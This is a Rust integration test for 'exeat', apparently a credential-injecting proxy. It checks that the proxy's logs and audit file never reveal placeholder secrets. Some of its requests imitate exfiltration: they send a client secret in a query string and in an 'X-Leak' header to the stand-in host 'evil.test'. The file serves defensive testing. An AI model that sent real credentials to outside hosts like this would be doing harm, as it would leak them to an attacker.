//! The log of a running exeat, at its finest: it can be read by programs and by people, and no secret is in it.

use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, Command, Stdio};
use std::thread::JoinHandle;
use std::time::Duration;

use exeat::scrub::Forms;
use exeat::secret::Secret;
use serde_json::Value;

use crate::metrics::login;
use crate::world::Desk;
use crate::world::{json_reply, origin_apart};

/// `PORT` and `TOKENS` are where the origins are.
const POLICY: &str = r#"
version: 1
secrets:
  of_env: {env: OF_ENV}
  of_file: {file: of-file}
  of_command: {command: [sh, -c, "echo $OF_COMMAND; echo SECRET-ON-STDERR >&2"]}
  of_store: {store: kept}
  bad_file: {file: bad-file}
  bad_command: {command: [sh, -c, "echo SECRET-OF-BAD-COMMAND; exit 3"]}
  client: {env: CLIENT}
  bot_token: {env: BOT_TOKEN}
  run_token: {env: RUN_TOKEN}
auth:
  env: {type: bearer, token: {secret: of_env}}
  file: {type: api_key, in: query, name: key, value: {secret: of_file}}
  command: {type: api_key, in: cookie, name: sid, value: {secret: of_command}}
  store: {type: basic, username: exeat, password: {secret: of_store}}
  bad_file: {type: bearer, token: {secret: bad_file}}
  bad_command: {type: bearer, token: {secret: bad_command}}
  oauth: {type: oauth2_client_credentials, token_url: "https://tokens.test:TOKENS/token", client_id: exeat, client_secret: {secret: client}}
  away: {type: oauth2_client_credentials, token_url: "https://away.test:1/token", client_id: exeat, client_secret: {secret: client}}
network:
  allow_private:
    - {host: api.good.test, addresses: [127.0.0.1/32], port: PORT}
    - {host: tokens.test, addresses: [127.0.0.1/32], port: TOKENS}
    - {host: away.test, addresses: [127.0.0.1/32], port: 1}
agents:
  bot: {token: {secret: bot_token}, runtime_token: {secret: run_token}, allow: ["*"]}
actions:
  away: {description: Is not there., method: GET, url: "https://away.test:1/", auth: env}
"#;

const CONNECTORS: [&str; 8] = [
    "env",
    "file",
    "command",
    "store",
    "bad_file",
    "bad_command",
    "oauth",
    "away",
];

/// Everything that exeat knows and nobody may read.
const SECRETS: [(&str, &str); 12] = [
    ("OF_ENV", "SECRET/of+env=AAAA"),
    ("of-file", "SECRET of \"file\" BBBB"),
    ("OF_COMMAND", "SECRET<of>command&CCCC"),
    ("kept", "SECRET-of-store-DDDD"),
    ("bad-file", "SECRET-of-bad-file\0EEEE"),
    ("", "SECRET-OF-BAD-COMMAND"),
    ("", "SECRET-ON-STDERR"),
    ("CLIENT", "SECRET-of-client-FFFF"),
    ("BOT_TOKEN", "SECRET-of-bot-GGGG"),
    ("RUN_TOKEN", "SECRET-of-runtime-HHHH"),
    ("", "SECRET-of-tokens-IIII"),
    ("admin", "SECRET-of-operator-JJJJ"),
];

fn is_variable(name: &str) -> bool {
    !name.is_empty()
        && name
            .bytes()
            .all(|byte| byte.is_ascii_uppercase() || byte == b'_')
}

fn secret(name: &str) -> &'static str {
    SECRETS.iter().find(|(it, _)| *it == name).unwrap().1
}

/// A started `exeat run` that tells everything.
struct Started {
    child: Child,
    log: JoinHandle<String>,
    proxy: SocketAddr,
    tools: SocketAddr,
    admin: SocketAddr,
}

impl Started {
    fn on(desk: &Desk, hosts: &[String]) -> Self {
        let free =
            ["proxy", "tools", "admin"].map(|it| [format!("--{it}-listen"), "127.0.0.1:0".into()]);
        let mut child = desk
            .command(&[
                "run",
                "--json",
                "--admin-token-file",
                "admin",
                "--audit",
                "audit.jsonl",
            ])
            .args(free.as_flattened())
            .args(hosts)
            .env("EXEAT_LOG", "trace")
            .envs(
                SECRETS
                    .iter()
                    .filter(|(name, _)| is_variable(name))
                    .copied(),
            )
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stderr = BufReader::new(child.stderr.take().unwrap());
        let mut log = String::new();
        let ready = loop {
            let start = log.len();
            assert!(stderr.read_line(&mut log).unwrap() > 0, "{log}");
            let line: Value =
                serde_json::from_str(&log[start..]).unwrap_or_else(|_| panic!("{log}"));
            if line["ready"] == true {
                break line;
            }
        };
        let address = |name: &str| ready[name].as_str().unwrap().parse().unwrap();
        let (proxy, tools, admin) = (address("proxy"), address("tools"), address("admin"));
        // Read on while it runs: a full pipe would hold up whoever logs.
        let log = std::thread::spawn(move || {
            stderr.read_to_string(&mut log).unwrap();
            log
        });
        Self {
            child,
            log,
            proxy,
            tools,
            admin,
        }
    }

    /// Ends it, and gives back all that it has logged.
    fn end(mut self) -> String {
        let pid = self.child.id().to_string();
        assert!(Command::new("kill").arg(pid).status().unwrap().success());
        assert!(self.child.wait().unwrap().success());
        self.log.join().unwrap()
    }
}

/// Exact bytes, and what comes until the end.
fn ask(address: SocketAddr, bytes: &str) -> String {
    let mut stream = TcpStream::connect(address).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    stream.write_all(bytes.as_bytes()).unwrap();
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

fn request(line: &str, host: &str, headers: &[&str], body: &str) -> String {
    let headers: String = headers.iter().map(|it| format!("{it}\r\n")).collect();
    format!(
        "{line} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{headers}Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// Requests with every credential, at every door, and much that fails.
fn play(started: &Started, port: u16) -> (u64, String) {
    let bot = login("bot", secret("BOT_TOKEN"));
    let bearer = format!("Authorization: Bearer {}", secret("BOT_TOKEN"));
    let runtime = format!("Authorization: Bearer {}", secret("RUN_TOKEN"));
    let tools = started.tools.to_string();
    let mut good = 0;
    for name in CONNECTORS {
        let host = format!("api.good.test:{port}");
        let line = format!("GET http://{host}/{name}");
        let answer = ask(started.proxy, &request(&line, &host, &[&bot], ""));
        good += u64::from(answer.starts_with("HTTP/1.1 200"));
        let line = format!("POST /v1/actions/use_{name}");
        let json = "Content-Type: application/json";
        let answer = ask(
            started.tools,
            &request(&line, &tools, &[&bearer, json], "{}"),
        );
        good += u64::from(answer.starts_with("HTTP/1.1 200"));
    }
    let opened = ask(
        started.tools,
        &request("POST /v1/sessions", &tools, &[&runtime], ""),
    );
    let body = opened.split("\r\n\r\n").nth(1).unwrap();
    let opened: Value = serde_json::from_str(body).unwrap_or_else(|_| panic!("{opened}"));
    let session = opened["session"].as_str().unwrap().to_owned();
    let own = started.admin.to_string();
    let admin = format!("Authorization: Bearer {}", secret("admin"));
    let leak = format!("X-Leak: {}", secret("OF_ENV"));
    let of_session = login(&format!("bot~{session}"), secret("BOT_TOKEN"));
    let item = format!("GET http://api.good.test:{port}/env");
    for (address, bytes) in [
        (
            started.proxy,
            request(&item, &format!("api.good.test:{port}"), &[&of_session], ""),
        ),
        (
            started.proxy,
            request("GET http://away.test:1/", "away.test:1", &[&bot], ""),
        ),
        (
            started.proxy,
            request(
                &format!("GET http://evil.test/?k={}", secret("CLIENT")),
                "evil.test",
                &[&bot, &leak],
                "",
            ),
        ),
        (
            started.proxy,
            request(
                "GET http://evil.test/",
                "evil.test",
                &[&login("bot", secret("RUN_TOKEN"))],
                "",
            ),
        ),
        (started.proxy, format!("GET {}\r\n\r\n", secret("OF_ENV"))),
        (
            started.proxy,
            format!(
                "CONNECT api.good.test:{port} HTTP/1.1\r\nHost: api.good.test:{port}\r\n{bot}\r\n\r\n{}",
                secret("kept")
            ),
        ),
        (
            started.tools,
            request(
                &format!("DELETE /v1/sessions/{session}"),
                &tools,
                &[&runtime],
                "",
            ),
        ),
        (
            started.tools,
            request(
                &format!("DELETE /v1/sessions/{session}"),
                &tools,
                &[&runtime],
                "",
            ),
        ),
        (
            started.tools,
            request(
                "POST /mcp",
                &tools,
                &[&bearer, "Content-Type: application/json"],
                &format!("{{{}", secret("CLIENT")),
            ),
        ),
        (started.tools, format!("{}\r\n\r\n", secret("BOT_TOKEN"))),
        (started.admin, request("GET /metrics", &own, &[&admin], "")),
        (started.admin, request("GET /metrics", &own, &[&bearer], "")),
        (
            started.admin,
            format!("GET /{} HTTP/0.7\r\n\r\n", secret("admin")),
        ),
    ] {
        ask(address, &bytes);
    }
    (good, session)
}

#[test]
fn at_its_finest_the_log_is_lines_of_json_without_a_secret() {
    let echo = SECRETS.map(|(_, value)| value).join(" and ");
    let (api, api_ca) = origin_apart(
        "api.good.test",
        &json_reply(&format!("{:?}", echo.replace('\0', ""))),
    );
    let (issuer, issuer_ca) = origin_apart(
        "tokens.test",
        &json_reply(
            r#"{"access_token":"SECRET-of-tokens-IIII","token_type":"Bearer","expires_in":3600}"#,
        ),
    );
    let port = api.address().port();
    let mut policy = POLICY
        .replace("PORT", &port.to_string())
        .replace("TOKENS", &issuer.address().port().to_string());
    for name in CONNECTORS {
        policy += &format!(
            "  use_{name}: {{description: Uses the credential., method: GET, url: \"https://api.good.test:{port}/{name}\", auth: {name}}}\n"
        );
    }
    let desk = Desk::with(&policy);
    for name in ["of-file", "bad-file"] {
        fs::write(desk.path("policies").join(name), secret(name)).unwrap();
    }
    fs::write(desk.path("admin"), secret("admin")).unwrap();
    fs::write(desk.path("api.pem"), api_ca).unwrap();
    fs::write(desk.path("tokens.pem"), issuer_ca).unwrap();
    let mut set = desk
        .command(&["secret", "set", "kept"])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    set.stdin
        .take()
        .unwrap()
        .write_all(secret("kept").as_bytes())
        .unwrap();
    assert!(set.wait().unwrap().success());
    let hosts = ["api.good.test", "tokens.test", "away.test"]
        .map(|host| ["--host".to_owned(), format!("{host}=127.0.0.1")]);
    let mut settings = hosts.as_flattened().to_vec();
    settings.extend(["--extra-ca", "api.pem", "--extra-ca", "tokens.pem"].map(str::to_owned));
    let started = Started::on(&desk, &settings);
    let (good, session) = play(&started, port);
    let log = started.end();
    // The five that can be read, at both doors.
    assert_eq!(good, 10, "{log}");
    assert!(log.lines().count() > 3, "{log}");
    for line in log.lines() {
        let parsed: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
        assert!(
            parsed["level"].is_string() || parsed["ready"] == true,
            "{line}"
        );
    }
    let everything = log + &fs::read_to_string(desk.path("audit.jsonl")).unwrap();
    let values = SECRETS.iter().map(|(_, value)| *value).chain([&*session]);
    let values: Vec<Secret> = values
        .filter_map(|it| Secret::new(it.as_bytes().to_vec()).ok())
        .collect();
    assert_eq!(values.len(), SECRETS.len(), "all but the one that is none");
    for value in values {
        let forms = Forms::of(std::slice::from_ref(&value));
        let shown = String::from_utf8_lossy(value.expose());
        assert!(forms.stand_in(format!(" {shown} ").as_bytes()), "{shown}");
        assert!(
            !forms.stand_in(everything.as_bytes()),
            "{shown}: {everything}"
        );
    }
    assert!(!everything.contains("bad-file\\u0000"), "{everything}");
}

/// `script` gives the program a terminal of its own. How the program ended is told by a shell inside it: `script` may
/// see the terminal close before it sees its child end, and then its own status says nothing.
#[test]
fn on_a_terminal_the_log_is_text() {
    let desk = Desk::with(
        "version: 1\nactions:\n  a: {description: Does something., method: GET, url: \"https://api.good.test/\"}\n",
    );
    let command = format!(
        "trap : INT; {} run --json --proxy-listen 127.0.0.1:0 --tools-listen 127.0.0.1:0 \
         --admin-listen 127.0.0.1:0 --audit audit.jsonl; echo ended with $?",
        env!("CARGO_BIN_EXE_exeat")
    );
    let mut script = Command::new("script")
        .args(["--quiet", "--flush", "--command", &command, "/dev/null"])
        .current_dir(desk.path(""))
        .env("EXEAT_LOG", "debug")
        .env("EXEAT_STATE_DIR", desk.path("state"))
        .env("SHELL", "/bin/sh")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(script.stdout.take().unwrap()).lines();
    let ready = lines.find_map(|line| {
        let line: Value = serde_json::from_str(line.unwrap().trim()).ok()?;
        (line["ready"] == true).then_some(line)
    });
    let admin = ready.unwrap()["admin"].as_str().unwrap().parse().unwrap();
    ask(admin, "no request\r\n\r\n");
    let told = lines.find_map(|line| {
        line.ok()
            .filter(|it| it.contains("what came for a page was no request"))
    });
    let told = told.unwrap();
    assert!(told.contains("DEBUG") && !told.starts_with('{'), "{told}");
    // What Ctrl-C sends.
    script.stdin.take().unwrap().write_all(b"\x03").unwrap();
    let last: Vec<String> = lines.map_while(Result::ok).collect();
    script.wait().unwrap();
    let ended = last
        .iter()
        .any(|line| line.trim_end().ends_with("ended with 0"));
    assert!(ended, "{last:#?}");
}
